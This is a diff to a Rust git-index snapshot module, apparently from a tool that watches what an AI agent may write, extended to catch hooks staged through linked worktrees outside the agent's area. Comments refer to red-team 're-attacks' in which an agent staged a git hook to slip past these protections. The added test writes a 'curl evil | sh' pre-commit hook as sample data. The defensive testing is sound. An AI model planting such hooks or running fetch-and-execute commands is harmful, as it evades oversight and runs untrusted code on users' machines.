@@ -54,6 +54,29 @@ struct Recorded {
     protected: Vec<PathBuf>,
     /// The object names the index gave the entries below them.
     protected_entries: HashMap<Vec<u8>, Vec<u8>>,
+    /// A linked worktree checked out outside what the agent may write (all of it protected): its
+    /// index is the agent's to write, in the repository's `.git` (the thirty-eighth re-attack's
+    /// J2 staged a hook there). The repository's commits are looked through from its own
+    /// worktree, not again from this one.
+    elsewhere: bool,
+}
+
+/// The linked worktrees of the repository whose common git directory is `common`: each one's git
+/// directory (`worktrees/<name>`) and where it is checked out (its `gitdir` names the checkout's
+/// `.git` file).
+fn linked_worktrees(common: &Path) -> Vec<(PathBuf, PathBuf)> {
+    // (A linked worktree's `commondir` names it by `../..`.)
+    let common = super::repositories::without_dot_dots(common);
+    let linked = std::fs::read_dir(common.join("worktrees")).into_iter().flatten().flatten().take(10_000);
+    linked
+        .map(|entry| entry.path())
+        .map(|dir| {
+            let named = git::read_limited(&dir.join("gitdir"), false).unwrap_or_default();
+            let named = PathBuf::from(String::from_utf8_lossy(&named).trim());
+            let worktree = named.parent().map_or_else(|| dir.clone(), Path::to_path_buf);
+            (dir, worktree)
+        })
+        .collect()
 }
 
 /// [`git::read_indexes`], with a split index's nameless entries given the names of the shared
@@ -140,7 +163,35 @@ impl IndexSnapshot {
                 packed_replacements,
                 protected,
                 protected_entries,
+                elsewhere: false,
             });
+        }
+        // The linked worktrees checked out elsewhere, all of each protected.
+        let common = |git_dir: &PathBuf| git::common_dir(git_dir).unwrap_or_else(|| git_dir.clone());
+        let mut commons: Vec<PathBuf> =
+            worktrees.iter().map(|(git_dir, _)| super::repositories::without_dot_dots(&common(git_dir))).collect();
+        commons.sort();
+        commons.dedup();
+        for common in commons {
+            for (git_dir, worktree) in linked_worktrees(&common) {
+                if worktrees.iter().any(|(_, known)| *known == worktree) {
+                    continue;
+                }
+                let (mut entries, mut protected_entries) = (HashSet::new(), HashMap::new());
+                read_named(&git_dir, git::hash_len(&git_dir), &mut budget, |entry| {
+                    entries.insert(snapshot.key(entry));
+                    protected_entries.insert(entry.name.to_vec(), entry.object_name().to_vec());
+                });
+                snapshot.worktrees.push(Recorded {
+                    packed_replacements: packed_replacements(&git_dir),
+                    protected: vec![worktree.clone()],
+                    git_dir,
+                    worktree,
+                    entries,
+                    protected_entries,
+                    elsewhere: true,
+                });
+            }
         }
         snapshot
     }
@@ -230,7 +281,7 @@ impl IndexSnapshot {
                     Err(_) => recorded.worktree.starts_with(scope).then_some((Path::new(""), names.as_slice())),
                 })
                 .collect();
-            if !recorded.protected.is_empty() || !trusted.is_empty() {
+            if !recorded.elsewhere && (!recorded.protected.is_empty() || !trusted.is_empty()) {
                 let dir = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
                 let dir = dir.join("objects");
                 // Once for every worktree of one repository (they share its objects).
@@ -344,14 +395,12 @@ impl IndexSnapshot {
             if chain_changed && std::fs::symlink_metadata(&chain).is_ok_and(|metadata| metadata.is_dir()) {
                 let _ = std::fs::remove_dir_all(&chain);
             }
-            let linked = std::fs::read_dir(common.join("worktrees")).into_iter().flatten().flatten().take(10_000);
-            for dir in linked.map(|entry| entry.path()) {
-                // Where it is checked out: its `gitdir` names the checkout's `.git` file.
-                let named = git::read_limited(&dir.join("gitdir"), false).unwrap_or_default();
-                let named = PathBuf::from(String::from_utf8_lossy(&named).trim());
-                let worktree = named.parent().map_or_else(|| dir.clone(), Path::to_path_buf);
+            for (dir, worktree) in linked_worktrees(&common) {
                 indexes.push((dir.join("index"), worktree, hash_len));
             }
+        }
+        for (index, _, _) in &mut indexes {
+            *index = super::repositories::without_dot_dots(index);
         }
         indexes.sort();
         indexes.dedup_by(|a, b| a.0 == b.0);
@@ -1122,6 +1171,13 @@ mod tests {
         trees::git(&feature, &["add", "README"], &[]);
         trees::git(&feature, &["commit", "-qm", "mine"], &[]);
         assert_eq!(trees::git(&feature, &["show", "HEAD:githooks/pre-commit"], &[]), "#!/bin/sh\necho lint ok");
+        // The thirty-eighth re-attack's J2: another version staged there (all of the worktree is
+        // the agent's to leave alone) is named; the user's own commit there is not.
+        assert_eq!(snapshot.hidden(), Hidden::default(), "{:?}", snapshot.hidden());
+        std::fs::write(outside.path().join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let evil = trees::git(&repo, &["hash-object", "-w", &outside.path().join("evil").display().to_string()], &[]);
+        trees::git(&feature, &["update-index", "--cacheinfo", &format!("100755,{evil},githooks/pre-commit")], &[]);
+        assert_eq!(snapshot.hidden().staged, vec![feature.join("githooks/pre-commit")]);
     }
 
     /// The thirty-seventh re-attack's I12 (and the thirty-sixth's H5): what one session made is
